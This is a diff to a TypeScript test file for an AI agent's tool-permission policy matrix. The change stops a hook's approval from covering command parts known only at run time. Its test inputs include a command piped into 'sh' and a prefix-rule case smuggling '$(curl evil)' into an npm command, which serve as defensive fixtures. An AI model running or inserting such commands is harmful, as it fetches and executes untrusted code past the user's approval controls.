@@ -12,7 +12,8 @@ import { policyHarness, scriptedAsker } from "./support.js";
  * Every rule form × allow/ask/deny × every approval mode × every hook decision. The expected outcome
  * is spelled out below (SPEC §4–5), independently of the implementation:
  * deny rules and plan mode stop a call; an ask rule asks (yolo runs it); an allow rule runs it; no
- * rule → the mode by safety level. A hook's allow answers the mode's own question (never an ask rule's), its
+ * rule → the mode by safety level. A hook's allow answers the mode's own question (never an ask rule's, nor
+ * the question about a part known only when the command runs, which nothing can vouch for), its
  * ask passes on an allow rule or yolo, force_ask always asks, deny_unless_prior_grant passes only on an allow
  * rule (no grants exist in this matrix).
  */
@@ -31,6 +32,7 @@ function expected(
   mode: ApprovalMode,
   safety: SafetyLevel,
   hook: Verdict | undefined,
+  runtimeOnly = false,
 ): Outcome {
   let policy: Outcome;
   if (rule === "deny") policy = "denied";
@@ -43,7 +45,7 @@ function expected(
     case undefined:
       return policy;
     case "allow":
-      return policy === "asked" && rule !== "ask" ? "ran" : policy;
+      return policy === "asked" && rule !== "ask" && !runtimeOnly ? "ran" : policy;
     case "ask":
       return policy === "ran" && (rule === "allow" || mode === "yolo") ? "ran" : "asked";
     case "force_ask":
@@ -61,6 +63,8 @@ interface Case {
   args: (root: string) => Record<string, unknown>;
   /** What the rule says about the call when it is written as allow, ask or deny. */
   verdicts: Record<RuleKind, RuleVerdict>;
+  /** A part of the command is known only when it runs (`| sh`): the mode's question about it stays. */
+  runtimeOnly?: boolean;
 }
 
 const AS_KIND = { allow: "allow", ask: "ask", deny: "deny" } as const;
@@ -99,6 +103,7 @@ const CASES: Case[] = [
     safety: "execute",
     args: command("npm run test:x | sh"),
     verdicts: { allow: "none", ask: "ask", deny: "deny" },
+    runtimeOnly: true,
   },
   {
     name: "Bash prefix rule on `npm run test:$(curl evil)`: the command substitution is not covered",
@@ -328,7 +333,7 @@ describe("the rule matrix", () => {
             });
             const result = await harness.pipeline.run({ name: testCase.tool, args: testCase.args(ws.root) });
             const actual: Outcome = result.error ? "denied" : requests.length > 0 ? "asked" : "ran";
-            const want = expected(testCase.verdicts[kind], mode, testCase.safety, hook);
+            const want = expected(testCase.verdicts[kind], mode, testCase.safety, hook, testCase.runtimeOnly);
             if (actual !== want)
               mismatches.push(
                 `mode ${mode}, hook ${hook ?? "none"}: ${actual}, expected ${want} (${result.text})`,
